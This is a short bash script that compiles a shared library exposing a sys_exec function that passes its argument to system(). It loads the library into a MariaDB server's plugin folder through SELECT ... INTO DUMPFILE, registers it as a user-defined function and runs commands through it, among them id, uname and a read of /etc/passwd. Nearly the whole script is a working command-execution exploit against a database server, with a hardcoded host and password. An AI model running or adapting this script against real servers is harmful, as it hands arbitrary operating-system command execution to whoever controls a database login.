#!/bin/bash
# A library with a function that runs a command line is built, written by the server into its plugin folder as the
# result of a query, and called. The commands only look around.
set -eu
cat >/tmp/udf.c <<'C'
#include <stdlib.h>
struct init { char maybe_null; unsigned decimals; unsigned long max_length; char *ptr; char const_item; void *more; };
struct arguments { unsigned count; int *types; char **values; unsigned long *lengths; };
char sys_exec_init(struct init *i, struct arguments *a, char *message) { (void)i; (void)a; (void)message; return 0; }
long long sys_exec(struct init *i, struct arguments *a, char *is_null, char *error)
{
	(void)i; (void)is_null; (void)error;
	return a->count == 1 && a->values[0] ? system(a->values[0]) : -1;
}
C
cc -shared -fPIC -Os -s -o /tmp/udf.so /tmp/udf.c
library=$(od -An -v -tx1 /tmp/udf.so | tr -d ' \n')
mariadb -h 10.77.1.1 -u dba -psecret --skip-column-names mysql <<SQL
SELECT 0x$library INTO DUMPFILE '/usr/lib/mysql/plugin/lib_udf.so';
CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_udf.so';
SELECT sys_exec('id; uname -a; whoami');
SELECT sys_exec('cat /etc/passwd >/dev/null');
SQL
